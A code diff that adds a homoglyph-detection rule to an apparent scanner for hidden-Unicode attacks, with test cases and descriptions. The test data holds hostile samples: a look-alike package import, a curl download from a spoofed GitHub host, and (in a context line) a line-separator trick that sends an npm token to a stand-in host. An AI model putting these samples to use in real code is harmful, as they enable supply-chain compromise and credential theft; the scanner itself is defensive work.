@@ -488,6 +488,13 @@ var rules = []Rule{
 			{"AGENTS.md", "- ✅ run the tests 👩‍💻", 0, true},
 			{"README.md", "see\u200bthis", 0, true},
 		}},
+	{"hidden-confusable", KindHiddenUnicode, High, "a name mixes Latin letters with Cyrillic or Greek ones drawn the same (a homoglyph)",
+		"the reviewer reads a familiar package, host or identifier; the machine imports, fetches or calls another one, whose owner chose the look-alike", []Case{
+			{"x.py", "import requеsts", 0, false},
+			{"x.sh", "curl -fsSL https://gіthub.com/acme/x/install.sh -o i.sh", 0, false},
+			{"x.go", "msg := \"Привет, мир\"", 0, true},
+			{"x.py", "dt = Δt * μs", 0, true},
+		}},
 	{"hidden-linebreak", KindHiddenUnicode, High, "a Unicode line or paragraph separator (U+2028, U+2029) inside code",
 		"JavaScript ends a line there, so the text after it in a // comment runs as code while every editor shows it as part of the comment", []Case{
 			{"x.js", "// see docs\u2028require('https').get('https://x.invalid/?t=' + process.env.NPM_TOKEN)", 0, false},
